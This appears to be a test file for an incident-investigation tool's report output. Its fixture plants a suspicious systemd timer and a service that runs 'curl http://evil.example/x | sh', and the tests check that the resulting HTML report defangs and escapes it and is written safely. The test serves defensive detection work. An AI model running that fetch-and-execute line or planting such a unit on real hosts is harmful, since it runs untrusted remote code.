/** `investigate --report` on a host of the test's own. */
import { join } from 'node:path';
import { expect, test } from 'vitest';
import type { Investigation } from '../../src/investigate/result.ts';
import { noHost, notRoot, ownHost, SCRATCH, TICKWARD, USER, type OwnHost } from '../helpers/host.ts';
import { tickward } from '../helpers/tickward.ts';
import { temporaryDirectory } from '../helpers/events.ts';

const TIMER = '/etc/systemd/system/<b>evil<\\b>.timer';

/** Each starts a host and the program several times: seconds, on a machine that is not busy. */
const LIMIT_MS = 300_000;

async function hostWithTimer(): Promise<{ host: OwnHost; report: (file: string, ...more: string[]) => ReturnType<OwnHost['run']> }> {
  const host = await ownHost();
  host.run(['sh', '-c', `printf '[Timer]\\nOnCalendar=*:0/1\\n' > '${TIMER}'; printf '[Service]\\nExecStart=/bin/sh -c "curl http://evil.example/x | sh"\\n' > '${TIMER.replace('.timer', '.service')}'; mkdir -m 0755 ${SCRATCH}/out`]);
  return { host, report: (file, ...more) => host.run([TICKWARD, 'investigate', '--file', TIMER, '--state-dir', `${SCRATCH}/state`, '--report', file, ...more]) };
}

test.skipIf(noHost !== undefined)(`the page and the document are there, for their owner alone, and say what the terminal says (${noHost ?? 'on a host of its own'})`, { timeout: LIMIT_MS }, async () => {
  const { host, report } = await hostWithTimer();
  const { status, stdout, stderr } = report(`${SCRATCH}/out/case.html`, '--json');
  expect({ status, stderr: stderr.replaceAll(SCRATCH, '') }).toMatchObject({ status: 3, stderr: expect.stringContaining('report   /out/case.html, and all of it as data in /out/case.json') });
  expect(host.run(['stat', '-c', '%n %a', `${SCRATCH}/out/case.html`, `${SCRATCH}/out/case.json`]).stdout.replaceAll(SCRATCH, '')).toBe('/out/case.html 600\n/out/case.json 600\n');
  const result = JSON.parse(host.run(['cat', `${SCRATCH}/out/case.json`]).stdout) as Investigation;
  expect(result).toEqual(JSON.parse(stdout));
  const page = host.run(['cat', `${SCRATCH}/out/case.html`]).stdout;
  expect(page).toContain('/etc/systemd/system/&lt;b&gt;evil&lt;\\b&gt;.timer');
  expect(page).not.toContain('<b>evil');
  expect(page).toContain('hxxp://evil[.]example/x');
  expect(page).toContain(`<h1 id="verdict">${result.verdict.level === 'suspicious' ? 'Suspicious' : 'Highly suspicious'}</h1>`);

  expect(report(`${SCRATCH}/out/case.html`, '--lang', 'zh-CN').status).toBe(3);
  expect(host.run(['cat', `${SCRATCH}/out/case.html`]).stdout).toContain('<html lang="zh-CN">');
});

test.skipIf(noHost !== undefined)('it is written also for a reader that went away before', { timeout: LIMIT_MS }, async () => {
  const { host } = await hostWithTimer();
  const { stderr } = host.run(['sh', '-c', `${TICKWARD} investigate --file '${TIMER}' --step timer --state-dir ${SCRATCH}/state --report ${SCRATCH}/out/case.html | true`]);
  expect(stderr).toMatch(/report {3}.*case\.html, and all of it/);
  expect(host.run(['ls', `${SCRATCH}/out`]).stdout).toBe('case.html\ncase.json\n');
});

test.skipIf(noHost !== undefined)('what cannot be written is refused before anything is looked at', { timeout: LIMIT_MS }, async () => {
  const { host, report } = await hostWithTimer();
  host.run(['sh', '-c', `cd ${SCRATCH}/out && echo mine > precious && ln -s precious link.html && ln -s precious other.json && echo '{"name":"mine"}' > package.json && ln -s out ../way && mkdir ../ro ../full && mount -t tmpfs -o ro none ../ro && mount -t tmpfs -o size=64k none ../full`]);
  for (const [file, said] of [['out/link.html', /link\.html is not written: it is a symbolic link/], ['out/other.html', /other\.json is not written: it is a symbolic link/], ['way/case.html', /way on the way is a symbolic link/], ['out/package.html', /package\.json is there already and is not from a report/], ['none/case.html', /none.* is not there/], ['ro/case.html', /its file system is mounted read-only/]] as const) {
    const { status, stdout, stderr } = report(`${SCRATCH}/${file}`);
    expect({ file, status, stdout }).toEqual({ file, status: 1, stdout: '' });
    expect(stderr).toMatch(said);
  }
  const full = report(`${SCRATCH}/full/case.html`, '--json');
  expect({ status: full.status, ...(JSON.parse(full.stdout) as object) }).toMatchObject({ status: 1, error: { message: expect.stringContaining('the disk is full') } });
  expect(host.run(['sh', '-c', `cat ${SCRATCH}/out/precious ${SCRATCH}/out/package.json; ls ${SCRATCH}/out`]).stdout).toBe('mine\n{"name":"mine"}\nlink.html\nother.json\npackage.json\nprecious\n');
});

test.skipIf(notRoot !== undefined)(`a plain user gets one of a timer of their own (${notRoot ?? 'on a host of its own'})`, { timeout: LIMIT_MS }, async () => {
  const host = await ownHost();
  const ran = host.run(host.asUser(['sh', '-c', `mkdir -p ~/.config/systemd/user && printf '[Timer]\\nOnCalendar=daily\\n' > ~/.config/systemd/user/mine.timer && cd && exec ${TICKWARD} investigate --file ~/.config/systemd/user/mine.timer --report mine.html`]));
  expect(ran.stderr).toContain('report   mine.html');
  expect(host.run(['stat', '-c', '%U %a', join(USER.home, 'mine.html')]).stdout).toBe(`${USER.name} 600\n`);
});

test('a name that is no page is wrong usage', () => {
  const { code, stderr } = tickward(['investigate', '--file', '/etc/hostname', '--report', 'case.txt', '--state-dir', temporaryDirectory()]);
  expect({ code, stderr }).toEqual({ code: 2, stderr: expect.stringContaining('does not end in .html — for example --report case.html') });
});
